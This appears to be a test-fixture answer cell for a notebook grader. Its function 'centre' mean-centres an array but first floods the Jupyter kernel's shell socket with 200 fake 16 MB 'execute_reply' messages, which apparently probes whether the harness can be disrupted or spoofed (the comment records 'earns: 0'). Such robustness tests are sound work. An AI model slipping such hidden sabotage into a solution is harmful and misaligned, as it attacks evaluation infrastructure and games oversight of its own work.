# The same on the shell's socket: replies of 16 MB, for requests that nobody made.
#
# earns: 0

# %% role="answer" name="centre"
def centre(x):
    kernel = get_ipython().kernel
    ident = kernel._parent_ident["shell"]
    for _ in range(200):
        kernel.session.send(
            kernel.shell_stream, "execute_reply", {"status": "y" * 2**24}, {}, ident=ident
        )
    return x - x.mean(axis=-1, keepdims=True)
